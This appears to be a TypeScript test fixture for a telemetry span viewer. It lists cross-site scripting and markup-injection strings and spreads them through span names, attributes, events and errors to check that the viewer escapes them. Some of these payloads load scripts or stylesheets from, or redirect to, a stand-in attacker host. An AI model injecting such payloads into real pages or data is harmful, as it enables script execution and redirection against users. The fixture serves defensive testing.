import type { HopSpan } from '../../src/spans/hop-span.ts';
import { at, makeExchange } from './make-spans.ts';

/** Each would run, ask for something or break out of its place, if it were not escaped where it stands. */
export const HOSTILE_TEXTS = [
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  "' onmouseover='alert(4)' x='",
  '</style><style>*{display:none}</style>',
  '</title><h1>hostile</h1>',
  '<!-- <iframe src="https://attacker.test/"></iframe> -->',
  '<a href="javascript:alert(5)">click</a>',
  '\u2028alert(6)\u2029',
  '\u202ereversed',
  ']]><b>cdata</b>',
  '&lt;b&gt;',
  '<link rel=stylesheet href=//attacker.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://attacker.test/">',
  'line\nbreak\r\n\ttab\0nul\x1b[31m',
  '<details open ontoggle=alert(7)>',
  '</td></tr></table><script src=https://attacker.test/x.js></script>',
  '\ud800 lone surrogate',
] as const;

/** Exchanges with such text in every place that text can come from: names, paths, attributes, events, errors, resources. */
export function hostileSpans(): HopSpan[] {
  return HOSTILE_TEXTS.flatMap((text, n) => {
    const resource = {
      attributes: {
        ...{ 'service.name': `svc ${text}`, 'process.pid': n, 'process.executable.name': text },
        ...{ 'host.name': text, 'telemetry.distro.name': 'hopspan' },
      },
    };
    const attributes = {
      ...{ 'http.request.method': text, 'url.path': `/${text}`, 'user_agent.original': text },
      ...{ 'hopspan.outcome': n % 2 === 0 ? text : 'ok', 'hopspan.pairing': text, 'hopspan.worker': text },
      ...{ 'hopspan.close.by': text, 'hopspan.close.how': text, 'error.type': text },
      ...{ 'http.response.status_code': text, 'network.local.address': text, 'client.address': text },
      [text]: text,
    };
    const error = n % 2 === 0 ? text : undefined;
    return makeExchange({
      ...{ traceNumber: n, startUs: n * 1_000_000, resource, attributes },
      ...(error === undefined ? {} : { error }),
    }).map((span) => ({
      ...span,
      name: span.kind === 'INTERNAL' ? span.name : text,
      attributes: { ...span.attributes, 'peer.service': text },
      events: [{ name: text, time: at(n * 1_000_000 + 5), attributes: { [text]: text } }],
    }));
  });
}
